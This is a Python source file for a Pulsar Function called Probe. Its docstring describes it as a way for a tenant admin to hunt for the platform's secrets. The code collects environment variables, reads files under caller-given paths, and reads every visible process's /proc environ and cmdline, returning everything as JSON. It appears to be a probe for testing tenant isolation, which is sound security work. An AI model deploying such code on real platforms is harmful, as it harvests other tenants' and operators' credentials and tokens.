"""A function a force's admin could deploy to look for the platform's secrets: reports its
environment and what it can read of the given paths and of every process it can see."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

from pulsar import Function


def _read(path: Path) -> str:
    try:
        return path.read_bytes()[:4096].decode("latin-1")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


class Probe(Function):  # type: ignore[misc]
    def process(self, input: Any, context: Any) -> str:  # noqa: A002 - Pulsar's signature
        paths = json.loads(input.decode() if isinstance(input, bytes) else str(input))
        files: dict[str, str] = {}
        for root in paths:
            p = Path(root)
            candidates = [p] if not p.is_dir() else [f for f in p.rglob("*") if f.is_file()][:300]
            for f in candidates:
                files[str(f)] = _read(f)
        procs = {}
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                procs[entry.name] = _read(entry / "environ") + _read(entry / "cmdline")
        return json.dumps({"env": dict(os.environ), "files": files, "procs": procs, "pid": os.getpid()})
